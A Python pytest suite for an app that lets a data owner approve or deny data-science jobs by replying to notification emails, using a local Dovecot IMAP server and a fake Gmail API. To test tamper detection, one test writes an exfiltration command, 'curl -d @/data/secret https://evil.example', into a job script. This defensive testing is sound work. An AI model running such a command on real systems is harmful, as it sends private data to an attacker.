"""Deciding jobs by replying to their email: a real Dovecot IMAP server on
127.0.0.1 holds the owner's mailbox, real passes read it."""

from __future__ import annotations

import email
import imaplib
import os
import random
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from email import policy
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

import pytest
from conftest import DO_EMAIL, DS_EMAIL, PATIENCE, App, outbox, text_of, wait_until
from fake_google import GMAIL_SCOPE, READ_SCOPE, FakeGoogle, gmail_error
from hostile import run_until_finished
from test_mail_smtp import make_certificate

from syft_bg_app.approval import audit
from syft_bg_app.datasite.jobfiles import sha256_bytes
from syft_bg_app.mail import retry
from syft_bg_app.mail.replies import parse_decision
from syft_bg_app.store.state import State

IMAP_USER, IMAP_PASSWORD = "owner", "imap secret"
DOVECOT = shutil.which("dovecot") or "/usr/sbin/dovecot"


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Dovecot:
    """A throwaway Dovecot instance: one user, maildir in a temp folder."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.port = _free_port()
        self.tls_port = _free_port()
        self.cert, key = make_certificate(folder)
        self.conf = folder / "dovecot.conf"
        mail = folder / "mail"
        mail.mkdir(parents=True)
        os.chown(mail, 65534, 65534)
        folder.chmod(0o755)
        (folder / "users").write_text(f"{IMAP_USER}:{{PLAIN}}{IMAP_PASSWORD}\n")
        self.conf.write_text(
            f"""instance_name = syft-bg-test-{self.port}
base_dir = {folder}/run
state_dir = {folder}/state
log_path = {folder}/dovecot.log
protocols = imap
listen = 127.0.0.1
ssl = yes
ssl_cert = <{self.cert}
ssl_key = <{key}
auth_mechanisms = plain login
disable_plaintext_auth = no
default_internal_user = dovecot
default_login_user = dovenull
mail_location = maildir:{mail}/%u
passdb {{
  driver = passwd-file
  args = scheme=PLAIN {folder}/users
}}
userdb {{
  driver = static
  args = uid=65534 gid=65534 home={mail}/%u
}}
service imap-login {{
  inet_listener imap {{
    port = {self.port}
  }}
  inet_listener imaps {{
    port = {self.tls_port}
  }}
}}
"""
        )
        self.process = subprocess.Popen(
            [DOVECOT, "-c", str(self.conf), "-F"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        wait_until(self._listening, "dovecot to listen")

    def _listening(self) -> bool:
        assert self.process.poll() is None, self.process.stderr.read().decode()
        try:
            socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
            return True
        except OSError:
            return False

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(timeout=PATIENCE)

    def connect(self) -> imaplib.IMAP4:
        conn = imaplib.IMAP4("127.0.0.1", self.port, timeout=PATIENCE)
        conn.login(IMAP_USER, IMAP_PASSWORD)
        return conn

    def deliver(self, message: EmailMessage | bytes) -> None:
        # Unfolded, as mail programs write Message-IDs (never as encoded words).
        unfolded = policy.SMTP.clone(max_line_length=None)
        raw = message if isinstance(message, bytes) else message.as_bytes(policy=unfolded)
        conn = self.connect()
        try:
            typ, data = conn.append("INBOX", None, None, raw)
            assert typ == "OK", data
        finally:
            conn.logout()

    def renumber(self) -> None:
        """Give the folder a new UIDVALIDITY, as a server restored from backup does."""
        conn = self.connect()
        try:
            conn.select("INBOX")
            current = int(conn.response("UIDVALIDITY")[1][0])
        finally:
            conn.logout()
        subprocess.run(
            [
                "doveadm",
                "-c",
                str(self.conf),
                "mailbox",
                "update",
                "-u",
                IMAP_USER,
                "--uid-validity",
                str(current + 7),
                "INBOX",
            ],
            check=True,
            capture_output=True,
        )


@pytest.fixture(scope="module")
def dovecot() -> Iterator[Dovecot]:
    if not os.path.exists(DOVECOT):
        pytest.skip("dovecot is not installed (Debian package dovecot-imapd)")
    if os.geteuid() != 0:
        pytest.skip("the test Dovecot is started as root (it drops to its users dovecot, dovenull)")
    # Dovecot's own users read its files: a folder they can reach, unlike pytest's.
    folder = Path(tempfile.mkdtemp(prefix="syft-bg-dovecot-"))
    try:
        server = Dovecot(folder)
        yield server
        server.stop()
    finally:
        shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def mailbox(dovecot: Dovecot) -> Dovecot:
    """The owner's mailbox, emptied for each test."""
    conn = dovecot.connect()
    try:
        _, [count] = conn.select("INBOX")
        if int(count):
            conn.store("1:*", "+FLAGS", "(\\Deleted)")
            conn.expunge()
    finally:
        conn.logout()
    return dovecot


@pytest.fixture
def reply_app(app: App, mailbox: Dovecot) -> App:
    """An app that reads the owner's replies from the Dovecot mailbox; one pass has
    run, so the mailbox is read from now on."""
    reply_app_config(app, mailbox)
    assert app.run_pass().exit_code == 0
    app.mailbox = mailbox
    return app


def reply_app_config(app: App, mailbox: Dovecot) -> None:
    password = app.home.root / "imap-password"
    password.write_text(IMAP_PASSWORD + "\n")
    password.chmod(0o600)
    app.set_config(
        approve={
            "email_replies": {
                "enabled": True,
                "imap": {
                    "host": "127.0.0.1",
                    "port": mailbox.port,
                    "security": "none",
                    "username": IMAP_USER,
                    "password_file": "imap-password",
                },
            }
        },
        execute={"timeout": 120},
    )


def submitted_email(app: App, job: str) -> EmailMessage:
    [found] = [
        m
        for m in outbox(app)
        if m["X-Syft-BG-Event"] == "job_submitted" and m["To"] == DO_EMAIL and job in m["Subject"]
    ]
    return found


def reply_to(
    original: EmailMessage,
    body: str,
    sender: str = DO_EMAIL,
    html: str | None = None,
    references: bool = True,
) -> EmailMessage:
    """The reply a mail program writes: Re: subject, thread headers, the original quoted."""
    reply = EmailMessage()
    reply["From"] = f"Owner <{sender}>"
    reply["To"] = DO_EMAIL
    reply["Subject"] = "Re: " + str(original["Subject"])
    reply["Message-ID"] = make_msgid(domain="mail.example.org")
    if references:
        reply["In-Reply-To"] = original["Message-ID"]
        reply["References"] = original["Message-ID"]
    quoted = "\n".join("> " + line for line in text_of(original).splitlines())
    if html is None:
        reply.set_content(f"{body}\n\nOn Mon, 23 Nov 2026, syft-bg <{DO_EMAIL}> wrote:\n{quoted}\n")
    else:
        reply.set_content(html, subtype="html")
    return reply


def thread_of(app: App, original: EmailMessage) -> list[EmailMessage]:
    """The emails to the owner that continue the thread of ``original``."""
    wanted = original["Message-ID"]
    return [
        m for m in outbox(app) if m["To"] == DO_EMAIL and wanted in str(m.get("References") or "")
    ]


def to_ds(app: App, kind: str) -> list[EmailMessage]:
    return [m for m in outbox(app) if m["To"] == DS_EMAIL and m["X-Syft-BG-Event"] == kind]


def pending_job(
    app: App, name: str = "stats", files: dict[str, str | bytes] | None = None
) -> EmailMessage:
    app.submit(name, files=files or {"script.sh": "echo counted > outputs/n.txt\n"})
    assert app.run_pass().exit_code == 0
    record = State.load(app.home.state_file).job(DS_EMAIL, name, "1")
    assert record["status"] == "pending"
    return submitted_email(app, name)


def decisions_of(app: App, name: str = "stats") -> list[dict]:
    return [
        e
        for e in audit.read(app.home.audit_log, f"{DS_EMAIL}/{name}")
        if e["decision"] in ("approved", "rejected")
    ]


# -- the decision ------------------------------------------------------------------


def test_an_approve_reply_approves_the_job_and_it_runs(reply_app):
    app = reply_app
    original = pending_job(app)
    assert "reply to this email" in text_of(original).lower()
    app.mailbox.deliver(reply_to(original, "Approve"))
    assert app.run_pass().exit_code == 0
    state = app.job_state("stats")
    assert state["status"] in ("approved", "running", "done")
    assert state["approved_by"] == DO_EMAIL
    [decision] = decisions_of(app)
    assert decision["method"] == "email"
    assert decision["replied_to"] == original["Message-ID"]
    assert run_until_finished(app, "stats")["stats"]["status"] == "done"
    [confirmation] = [m for m in thread_of(app, original) if m["X-Syft-BG-Event"] == "job_approved"]
    assert "by email reply" in text_of(confirmation)
    assert to_ds(app, "job_approved")


def test_a_deny_reply_rejects_and_the_reason_reaches_the_data_scientist(reply_app):
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "deny: reads more columns than it needs"))
    assert app.run_pass().exit_code == 0
    state = app.job_state("stats")
    assert state["status"] == "rejected"
    assert state["review_reason"] == "reads more columns than it needs"
    app.run_pass()  # what a pass decides is emailed by the next one
    [rejected] = to_ds(app, "job_rejected")
    assert "reads more columns than it needs" in text_of(rejected)
    [decision] = decisions_of(app)
    assert decision["method"] == "email"
    [confirmation] = [m for m in thread_of(app, original) if m["X-Syft-BG-Event"] == "job_rejected"]
    assert "rejected (by email reply)" in text_of(confirmation)


def test_auto_approve_makes_a_rule_and_an_identical_resubmission_is_approved(reply_app):
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "auto-approve"))
    assert app.run_pass().exit_code == 0
    assert app.job_state("stats")["status"] in ("approved", "running", "done")
    [rule] = app.config.get("approve.auto_approvals")
    assert rule["peers"] == [DS_EMAIL]
    assert set(rule["files"]) == {"run.sh", "code/script.sh"}
    app.run_pass()  # what a pass decides is emailed by the next one
    answers = [m for m in thread_of(app, original) if m["X-Syft-BG-Event"] == "reply_answer"]
    assert "now approves the same files" in text_of(answers[0])
    app.submit("stats-again", files={"script.sh": "echo counted > outputs/n.txt\n"})
    app.run_pass()
    assert app.job_state("stats-again")["status"] in ("approved", "running", "done")
    assert app.job_state("stats-again")["approval_method"] == "auto"


def test_a_forged_from_with_the_right_reference_decides_nothing(reply_app):
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "approve", sender="mallory@evil.example"))
    assert app.run_pass().exit_code == 0
    assert app.job_state("stats")["status"] == "pending"
    assert decisions_of(app) == []


def test_the_owners_address_without_the_reference_decides_nothing(reply_app):
    app = reply_app
    original = pending_job(app)
    # A new email with the job's subject, and a reply to another email of the thread.
    app.mailbox.deliver(reply_to(original, "approve", references=False))
    other = reply_to(original, "approve")
    other.replace_header("In-Reply-To", "<something-else@mail.example.org>")
    other.replace_header("References", "<something-else@mail.example.org>")
    app.mailbox.deliver(other)
    assert app.run_pass().exit_code == 0
    assert app.job_state("stats")["status"] == "pending"
    assert decisions_of(app) == []


def test_a_reply_to_the_data_scientists_copy_decides_nothing(reply_app):
    app = reply_app
    pending_job(app)
    [ds_copy] = to_ds(app, "job_submitted")
    app.mailbox.deliver(reply_to(ds_copy, "approve"))
    assert app.run_pass().exit_code == 0
    assert app.job_state("stats")["status"] == "pending"


def test_a_job_changed_after_its_email_is_not_approved_and_the_owner_is_told(reply_app):
    app = reply_app
    original = pending_job(app)
    script = app.datasite.inbox / DS_EMAIL / "v1" / "stats" / "code" / "script.sh"
    script.write_text("curl -d @/data/secret https://evil.example\n")
    app.mailbox.deliver(reply_to(original, "approve"))
    app.run_pass()
    assert app.job_state("stats")["status"] == "pending"
    assert decisions_of(app) == []
    app.run_pass()  # what a pass decides is emailed by the next one
    answers = [m for m in thread_of(app, original) if m["X-Syft-BG-Event"] == "reply_answer"]
    assert len(answers) == 1
    assert "no longer the ones this email showed" in text_of(answers[0])
    assert answers[0]["In-Reply-To"] in str(answers[0]["References"])


def test_quoted_approve_under_a_deny_line_denies(reply_app):
    app = reply_app
    original = pending_job(app)
    reply = reply_to(original, "deny too broad\n\n> approve")
    app.mailbox.deliver(reply)
    app.run_pass()
    assert app.job_state("stats")["status"] == "rejected"


def test_quoted_approve_under_a_question_decides_nothing(reply_app):
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "What does this job read?\n> approve"))
    app.run_pass()
    assert app.job_state("stats")["status"] == "pending"
    assert decisions_of(app) == []


def test_an_html_only_reply_is_read(reply_app):
    app = reply_app
    original = pending_job(app)
    html = (
        '<div dir="ltr">Approve</div><br><div class="gmail_quote">'
        "<blockquote>deny everything</blockquote></div>"
    )
    app.mailbox.deliver(reply_to(original, "", html=html))
    app.run_pass()
    assert app.job_state("stats")["status"] in ("approved", "running", "done")


SHORTENED = {
    "a file over notify.code_file_cap": (
        {"code_file_cap": 1024},
        {"script.sh": "echo x\n" + "# padding\n" * 500},
    ),
    "a binary file": ({}, {"script.sh": "echo x\n", "data.bin": b"\x00\x01\x02binary"}),
    "an email over notify.max_email_kb": (
        {"max_email_kb": 256, "code_file_cap": 409600, "code_total_cap": 409600},
        {"script.sh": "echo x\n" + "# padding line\n" * 20000},
    ),
}


@pytest.mark.parametrize("shortened", sorted(SHORTENED))
def test_an_email_that_shortened_a_file_cannot_approve_and_the_reply_is_answered(
    reply_app, shortened
):
    app = reply_app
    notify, files = SHORTENED[shortened]
    app.set_config(notify={**app.config.get("notify"), **notify})
    original = pending_job(app, files=files)
    assert "cannot approve this job" in text_of(original)
    app.mailbox.deliver(reply_to(original, "approve"))
    app.run_pass()
    assert app.job_state("stats")["status"] == "pending"
    app.run_pass()  # what a pass decides is emailed by the next one
    answers = [m for m in thread_of(app, original) if m["X-Syft-BG-Event"] == "reply_answer"]
    assert "cannot approve this job" in text_of(answers[0])
    assert "jobs show" in text_of(answers[0])


def test_a_second_contradicting_reply_changes_nothing_and_is_answered(reply_app):
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "approve"))
    app.run_pass()
    app.mailbox.deliver(reply_to(original, "deny changed my mind"))
    app.run_pass()
    assert app.job_state("stats")["status"] in ("approved", "running", "done")
    assert [d["decision"] for d in decisions_of(app)] == ["approved"]
    app.run_pass()  # what a pass decides is emailed by the next one
    answers = [m for m in thread_of(app, original) if m["X-Syft-BG-Event"] == "reply_answer"]
    assert "changed nothing" in text_of(answers[-1])


# -- reading each reply once -------------------------------------------------------


def test_a_renumbered_folder_replays_nothing_twice(reply_app):
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "approve"))
    app.run_pass()
    run_until_finished(app, "stats")
    app.run_pass()
    emails_before = len(outbox(app))
    app.mailbox.renumber()
    app.run_pass()
    app.run_pass()
    assert [d["decision"] for d in decisions_of(app)] == ["approved"]
    assert len(outbox(app)) == emails_before
    assert "renumbered" in (app.home.root / "logs" / "syft-bg.log").read_text()


@pytest.mark.parametrize("when", ["after acting on it", "before acting on it"])
def test_a_pass_stopped_between_reading_a_reply_and_saving_the_position_acts_once(reply_app, when):
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "approve"))
    from syft_bg_app.mail import replies

    real_handle = replies.handle_reply

    def stopped(ctx, raw, where):
        if when == "after acting on it":
            real_handle(ctx, raw, where)
        raise SystemExit(f"stopped {when}, before the position was saved")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(replies, "handle_reply", stopped)
        with pytest.raises(SystemExit):
            app.run_pass()
    state = run_until_finished(app, "stats")
    assert state["stats"]["status"] == "done"
    app.run_pass()
    assert len(decisions_of(app)) == 1
    assert len(to_ds(app, "job_approved")) == 1
    assert len(to_ds(app, "job_finished")) == 1


def test_passes_killed_at_random_instants_act_on_a_reply_once(reply_app):
    """SIGKILL anywhere in the passes that read the reply: the job is approved once,
    runs once, and each email about it goes out once."""
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "approve"))
    argv = [sys.executable, "-m", "syft_bg_app", "run", "--once"]
    chance = random.Random(18)
    for _ in range(12):
        started = subprocess.Popen(
            argv, env=app.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        try:
            started.wait(timeout=chance.uniform(0.05, 1.5))
        except subprocess.TimeoutExpired:
            started.kill()
            started.wait(timeout=PATIENCE)
    state = run_until_finished(app, "stats")
    assert state["stats"]["status"] == "done"
    app.run_pass()
    record = State.load(app.home.state_file).job(DS_EMAIL, "stats", "1")
    assert record["status"] == "done" and record.get("reruns", 0) == 0
    assert {d["decision"] for d in decisions_of(app)} == {"approved"}
    assert len(to_ds(app, "job_approved")) == 1
    assert len(to_ds(app, "job_finished")) == 1


def test_without_email_replies_the_email_offers_none_and_replies_are_not_read(app, mailbox):
    app.submit("early")
    app.run_pass()
    original = submitted_email(app, "early")
    assert "reply to this email" not in text_of(original).lower()
    mailbox.deliver(reply_to(original, "approve"))
    app.run_pass()
    assert app.job_state("early")["status"] == "pending"


def test_messages_are_left_unread_on_the_server(reply_app):
    app = reply_app
    original = pending_job(app)
    app.mailbox.deliver(reply_to(original, "approve"))
    app.run_pass()
    conn = app.mailbox.connect()
    try:
        conn.select("INBOX", readonly=True)
        typ, data = conn.search(None, "UNSEEN")
    finally:
        conn.logout()
    assert data[0].split()


def test_a_wrong_password_fails_the_step_in_plain_words_and_the_rules_still_run(reply_app):
    app = reply_app
    (app.home.root / "imap-password").write_text("wrong\n")
    app.submit("other")
    rule_files = {
        "run.sh": sha256_bytes(b"#!/bin/bash\necho hello\n"),
        "code/script.sh": sha256_bytes(b"echo hello\n"),
    }
    app.set_config(
        approve={
            **app.config.get("approve"),
            "auto_approvals": [{"name": "hello", "files": rule_files}],
        }
    )
    result = app.run_pass()
    assert result.exit_code == 1
    assert result.failed_steps == ["approve"]
    assert app.job_state("other")["status"] in ("approved", "running", "done")
    assert "cannot read replies" in app.cli("status").stdout
    setup = app.cli("setup-status").stdout
    assert "email replies" in setup and "cannot read replies" in setup


def test_setup_status_offers_replies_and_checks_the_mailbox(app, mailbox):
    app.set_config(notify={"transport": "smtp", "smtp": {"host": "127.0.0.1", "port": 25}})
    assert "approve.email_replies.enabled: true" in app.cli("setup-status").stdout
    reply_app_config(app, mailbox)
    setup = app.cli("setup-status").stdout
    assert f"read over IMAP from {IMAP_USER} at 127.0.0.1:{mailbox.port}" in setup


@pytest.mark.parametrize("security", ["starttls", "ssl"])
def test_replies_are_read_over_tls_trusting_the_servers_certificate(app, mailbox, security):
    reply_app_config(app, mailbox)
    port = mailbox.port if security == "starttls" else mailbox.tls_port
    imap = {"security": security, "port": port, "ca_file": str(mailbox.cert), "host": "localhost"}
    app.set_config(approve=merged(app.config.get("approve"), imap))
    assert app.run_pass().exit_code == 0
    original = pending_job(app)
    mailbox.deliver(reply_to(original, "approve"))
    assert app.run_pass().exit_code == 0
    assert app.job_state("stats")["status"] in ("approved", "running", "done")
    # Without the certificate the server is not trusted, and nothing is read.
    app.set_config(approve=merged(app.config.get("approve"), {"ca_file": None}))
    result = app.run_pass()
    assert result.failed_steps == ["approve"]
    assert "certificate" in app.cli("status").stdout.lower()


def test_an_out_of_office_answer_is_left_alone(reply_app):
    app = reply_app
    original = pending_job(app)
    answer = reply_to(original, "approve")
    answer["Auto-Submitted"] = "auto-replied"
    app.mailbox.deliver(answer)
    app.run_pass()
    assert app.job_state("stats")["status"] == "pending"


def test_a_reply_is_read_by_the_next_pass_when_nothing_else_changed(reply_app):
    app = reply_app
    original = pending_job(app)
    for _ in range(3):
        app.run_pass()
    app.mailbox.deliver(reply_to(original, "approve"))
    app.run_pass()
    assert app.job_state("stats")["status"] in ("approved", "running", "done")


def merged(approve: dict, imap: dict) -> dict:
    replies = approve["email_replies"]
    return {**approve, "email_replies": {**replies, "imap": {**replies["imap"], **imap}}}


# -- Gmail -------------------------------------------------------------------------


@pytest.fixture
def google() -> Iterator[FakeGoogle]:
    fake = FakeGoogle().start()
    yield fake
    fake.stop()


def gmail_app(app: App, google: FakeGoogle, scopes: list[str] | None = None) -> App:
    """An app sending and reading through the fake Gmail; one pass has run."""
    google.write_token(
        app.home.root / "gmail_token.json", scopes=scopes or [GMAIL_SCOPE, READ_SCOPE]
    )
    app.set_config(
        notify={"transport": "gmail", "gmail": {"api_endpoint": google.api_endpoint}},
        approve={"email_replies": {"enabled": True}},
        execute={"enabled": False},
    )
    app.run_pass()
    return app


def gmail_submitted(google: FakeGoogle, job: str) -> EmailMessage:
    [found] = [
        m
        for m in (email.message_from_bytes(s["raw"], policy=policy.default) for s in google.sent)
        if m["X-Syft-BG-Event"] == "job_submitted" and m["To"] == DO_EMAIL and job in m["Subject"]
    ]
    return found


def as_sent(message: EmailMessage) -> bytes:
    return message.as_bytes(policy=policy.SMTP.clone(max_line_length=None))


def test_gmail_a_reply_read_from_the_history_approves_the_job(app, google):
    gmail_app(app, google)
    first = [r.path for r in google.read_requests()]
    assert first == ["/gmail/v1/users/me/profile"]
    app.submit("stats")
    app.run_pass()
    original = gmail_submitted(google, "stats")
    google.deliver(as_sent(reply_to(original, "approve")))
    assert app.run_pass().exit_code == 0
    assert app.job_state("stats")["status"] == "approved"
    [decision] = decisions_of(app)
    assert decision["method"] == "email"
    history = [r for r in google.read_requests() if r.path.endswith("/history")]
    assert history and all(r.query["historyTypes"] == ["messageAdded"] for r in history)
    # Only the reply was fetched whole; the app's own emails by their headers alone.
    raw_reads = [r for r in google.read_requests() if r.query.get("format") == ["raw"]]
    assert len(raw_reads) == 1


def test_gmail_transient_failures_are_retried_within_the_pass(app, google, monkeypatch):
    waits: list[float] = []
    monkeypatch.setattr(retry, "SLEEP", waits.append)
    gmail_app(app, google)
    app.submit("stats")
    app.run_pass()
    google.deliver(as_sent(reply_to(gmail_submitted(google, "stats"), "approve")))
    google.read_failures += [
        gmail_error(503, "backendError"),
        gmail_error(429, "rateLimitExceeded"),
    ]
    assert app.run_pass().exit_code == 0
    assert app.job_state("stats")["status"] == "approved"
    assert len(waits) == 2


def test_gmail_a_forged_reply_a_draft_and_spam_decide_nothing(app, google):
    gmail_app(app, google)
    app.submit("stats")
    app.run_pass()
    original = gmail_submitted(google, "stats")
    google.deliver(as_sent(reply_to(original, "approve", sender="mallory@evil.example")))
    google.deliver(as_sent(reply_to(original, "approve")), labels=("DRAFT",))
    # Gmail's own verdict on a message claiming the owner's address: spam, or binned.
    google.deliver(as_sent(reply_to(original, "approve")), labels=("SPAM",))
    google.deliver(as_sent(reply_to(original, "approve")), labels=("TRASH",))
    app.run_pass()
    assert app.job_state("stats")["status"] == "pending"


def test_gmail_an_expired_history_id_restarts_from_now_and_says_so(app, google):
    gmail_app(app, google)
    app.submit("stats")
    app.run_pass()
    original = gmail_submitted(google, "stats")
    google.deliver(as_sent(reply_to(original, "approve")))
    google.expire_history()
    assert app.run_pass().exit_code == 0
    assert app.job_state("stats")["status"] == "pending"
    log = (app.home.root / "logs" / "syft-bg.log").read_text()
    assert "replies are read from now on" in log
    google.deliver(as_sent(reply_to(original, "deny: wrong dataset")))
    app.run_pass()
    assert app.job_state("stats")["status"] == "rejected"


def test_gmail_without_the_read_permission_setup_status_says_so(app, google):
    gmail_app(app, google, scopes=[GMAIL_SCOPE])
    result = app.run_pass()
    assert result.failed_steps == ["approve"]
    status = app.cli("setup-status").stdout
    assert "email replies" in status and "gmail.readonly" in status
    assert "--gmail" in status


# -- what counts as the owner's first line -------------------------------------------


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("Approve\n\nOn Mon, 23 Nov 2026, syft-bg <o@d.org> wrote:\n> deny\n", "approve"),
        (
            "On Mon, 23 Nov 2026 at 10:00, syft-bg <\no@d.org> wrote:\n> deny\n\napprove\n",
            "approve",
        ),
        ("\n\nDENY: too broad\n> approve\n", "deny"),
        ("reject not now\n", "deny"),
        ("auto-approve, thanks\n", "auto-approve"),
        ("Approved?\n", None),
        ("approve?\n", None),
        ("approved\n", None),
        ("Looks fine, approve\n", None),
        ("-- \nOwner\napprove\n", None),
        ("________________________________\nFrom: syft-bg\nSent: Monday\n\napprove\n", None),
        ("---------- Forwarded message ---------\nFrom: x\napprove\n", None),
        ("> approve\n", None),
    ],
)
def test_the_decision_is_the_first_line_that_is_not_quoted(body, expected):
    message = EmailMessage()
    message.set_content(body)
    decision = parse_decision(message)
    assert (decision.word if decision else None) == expected
